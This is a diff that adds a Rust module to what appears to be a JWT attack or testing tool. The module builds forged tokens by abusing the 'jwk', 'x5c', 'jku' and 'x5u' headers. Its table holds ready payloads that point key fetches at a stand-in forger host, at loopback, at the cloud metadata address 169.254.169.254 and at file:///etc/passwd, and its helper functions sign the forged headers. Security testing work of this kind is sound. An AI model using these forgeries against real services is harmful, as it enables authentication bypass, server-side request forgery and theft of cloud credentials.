@@ -1,0 +1,66 @@
+//! The token brings its own key, or says where to fetch it.
+
+use base64::{Engine as _, engine::general_purpose::STANDARD};
+use serde_json::{Value, json};
+
+use super::{
+    Family, Forged, Forgery, certificate,
+    draft::{Draft, set},
+};
+use crate::jose::b64;
+
+const OWN: &str =
+    "A key that the token brings along is trusted: anyone can write any token (CVE-2018-0114).";
+const FETCH: &str = "The server fetches keys from where the token says: anyone can write any token, and make the server send requests.";
+const INSIDE: &str = "The server fetches what the token names, even inside its own network (SSRF).";
+const SOURCE: &str = "RFC 8725 §3.10; jwt_tool, JWT Editor, PortSwigger, jwt-hack";
+
+#[rustfmt::skip] // a table: one line a forgery
+pub(super) fn forgeries() -> Vec<Forgery> {
+    const F: Family = Family::Pointers;
+    vec![
+        Forgery::token(F, "jwk-own", "Own key in `jwk`", "The header brings a key of the forger's in `jwk`; signed with it.", "CVE-2018-0114; jwt_tool, JWT Editor, PortSwigger, jwt-hack", OWN, |d| by_jwk(d, false)),
+        Forgery::token(F, "jwk-own-kid", "Own key in `jwk`, with its kid", "As own key in `jwk`; `kid` names the key that is brought along.", "CVE-2018-0114; JWT Editor, PortSwigger", OWN, |d| by_jwk(d, true)),
+        Forgery::token(F, "jwk-private", "Private key in `jwk`", "The header brings a whole private key in `jwk`; signed with it.", "RFC 7515 §4.1.3; own", OWN, |d| own(d, "/jwk", Value::Object(super::ingredients::unbound(&d.with.own).0))),
+        Forgery::token(F, "jwk-symmetric", "Symmetric key in `jwk`", "The header brings a shared secret in `jwk`; `alg` is HS256, and the HMAC is made with it.", "RFC 7515 §4.1.3; own", OWN, |d| { let h = d.header_set("/alg", Some("HS256".into()))?; d.hmac_with(&set(&h, "/jwk", Some(json!({"kty":"oct","k":b64::encode("forged")})))?, b"forged") }),
+        Forgery::token(F, "x5c-own", "Own certificate in `x5c`", "The header brings a self-signed certificate of the forger's; signed with its key.", "RFC 7515 §4.1.6; CVE-2017-2800; jwt_tool, jwt-hack", OWN, |d| { let der = certificate::self_signed(&d.with.own, &d.with.own_alg)?; own(d, "/x5c", json!([STANDARD.encode(der)])) }),
+        Forgery::token(F, "jku-own", "`jku` to the forger's server", "`jku` names a key set at the forger's; signed with a key of the forger's.", SOURCE, FETCH, |d| own(d, "/jku", json!("https://forger.example/jwks.json"))),
+        Forgery::token(F, "jku-loopback", "`jku` to loopback", "`jku` names a port of the server's own machine.", SOURCE, INSIDE, |d| own(d, "/jku", json!("http://127.0.0.1:9/jwks.json"))),
+        Forgery::token(F, "jku-metadata", "`jku` to the metadata address", "`jku` names the address at which clouds give credentials away.", SOURCE, INSIDE, |d| own(d, "/jku", json!("http://169.254.169.254/latest/meta-data/"))),
+        Forgery::token(F, "jku-file", "`jku` to a file", "`jku` names a file.", SOURCE, INSIDE, |d| own(d, "/jku", json!("file:///etc/passwd"))),
+        Forgery::token(F, "jku-userinfo", "`jku` behind the issuer's name", "`jku` begins with the issuer's name and leads elsewhere: `issuer@forger.example`.", "RFC 8725 §3.10; PortSwigger", FETCH, |d| { let issuer = d.claim_text("iss").unwrap_or_else(|_| "https://issuer.example".into()); own(d, "/jku", json!(format!("{}@forger.example/jwks.json", issuer.trim_end_matches('/')))) }),
+        Forgery::token(F, "x5u-own", "`x5u` to the forger's server", "`x5u` names a certificate at the forger's; signed with its key.", SOURCE, FETCH, |d| own(d, "/x5u", json!("https://forger.example/cert.pem"))),
+        Forgery::token(F, "x5u-loopback", "`x5u` to loopback", "`x5u` names a port of the server's own machine.", SOURCE, INSIDE, |d| own(d, "/x5u", json!("http://127.0.0.1:9/cert.pem"))),
+        Forgery::token(F, "x5u-metadata", "`x5u` to the metadata address", "`x5u` names the address at which clouds give credentials away.", SOURCE, INSIDE, |d| own(d, "/x5u", json!("http://169.254.169.254/latest/meta-data/"))),
+        Forgery::token(F, "x5u-file", "`x5u` to a file", "`x5u` names a file.", SOURCE, INSIDE, |d| own(d, "/x5u", json!("file:///etc/passwd"))),
+    ]
+}
+
+/// Adds a member that leads to the forger's key, takes the issuer's `kid` away, and signs.
+fn own(d: &Draft<'_>, pointer: &str, value: Value) -> Forged {
+    let header = d.header_set("/alg", Some(d.with.own_alg.name().into()))?;
+    let header = set(&header, pointer, Some(value))?;
+    let header = if d.members()?.contains_key("kid") {
+        set(&header, "/kid", None)?
+    } else {
+        header
+    };
+    d.own(&header, &d.payload()?)
+}
+
+fn by_jwk(d: &Draft<'_>, named: bool) -> Forged {
+    let mut public = d
+        .with
+        .own
+        .public()
+        .ok_or("a shared secret has no public part to bring along")?;
+    if !named {
+        public.0.shift_remove("kid");
+        return own(d, "/jwk", Value::Object(public.0));
+    }
+    public.0.insert("kid".into(), "forged".into());
+    let header = d.header_set("/alg", Some(d.with.own_alg.name().into()))?;
+    let header = set(&header, "/kid", Some("forged".into()))?;
+    let header = set(&header, "/jwk", Some(Value::Object(public.0)))?;
+    d.own(&header, &d.payload()?)
+}
